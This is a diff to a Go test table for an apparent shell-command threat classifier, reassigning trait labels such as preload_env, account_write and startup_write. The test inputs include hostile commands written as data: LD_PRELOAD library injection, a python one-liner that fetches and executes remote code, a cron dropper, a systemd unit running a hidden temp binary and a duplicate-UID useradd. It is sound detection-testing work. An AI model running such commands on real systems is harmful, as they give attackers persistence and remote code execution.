@@ -276,10 +276,10 @@ func TestTraits(t *testing.T) {
 		// preload_write
 		{"echo /usr/local/lib/libx.so > /etc/ld.so.preload", "preload_write"},
 		{"cp x /etc/ld.so.preload", "preload_write"},
-		{"LD_PRELOAD=/tmp/x.so ls", "preload_write"},
-		{"export LD_PRELOAD=/usr/lib/libhide.so", "preload_write"},
-		{"env LD_PRELOAD=/lib/.x.so ls", "preload_write"},
-		{"LD_PRELOAD=/opt/.x/libjemalloc.so a", "preload_write"},
+		{"LD_PRELOAD=/tmp/x.so ls", "preload_env"},
+		{"export LD_PRELOAD=/usr/lib/libhide.so", "preload_env"},
+		{"env LD_PRELOAD=/lib/.x.so ls", "preload_env"},
+		{"LD_PRELOAD=/opt/.x/libjemalloc.so a", "preload_env"},
 		{"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server", ""},
 		{"export LD_PRELOAD=libtcmalloc_minimal.so.4", ""},
 		{"unset LD_PRELOAD", ""},
@@ -344,7 +344,7 @@ func TestTraits(t *testing.T) {
 		{"mysql -u root -p x", ""},
 		{"echo --donate-level", ""},
 		{"ssh-keygen -a 100 -t ed25519", ""},
-		{"useradd -u 1000 -p x -o a", ""},
+		{"useradd -u 1000 -p x -o a", "account_write"},
 		{"grep stratum+tcp:// /var/log/syslog", ""},
 		// interpreter_fetch
 		{"python3 -c \"import urllib.request as u; exec(u.urlopen('http://203.0.113.77/x').read())\"", "interpreter_fetch,pipe_to_shell"},
@@ -402,7 +402,7 @@ func TestTraits(t *testing.T) {
 		{"a 2>&1", ""},
 		// a crontab written by a dropper; a script written and run
 		{"cat > /etc/cron.d/x <<EOF\n* * * * * root " + dropper + "\nEOF", "cron_write,fetch,pipe_to_shell"},
-		{"cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/tmp/.x/a\nEOF", "hidden_exec,temp_exec"},
+		{"cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/tmp/.x/a\nEOF", "hidden_exec,startup_write,temp_exec"},
 		{"echo '" + dropper + "' > /opt/a.sh; sh /opt/a.sh", "fetch,pipe_to_shell"},
 		{"echo '" + dropper + "' > /opt/a.sh", ""},
 		// no valid shell
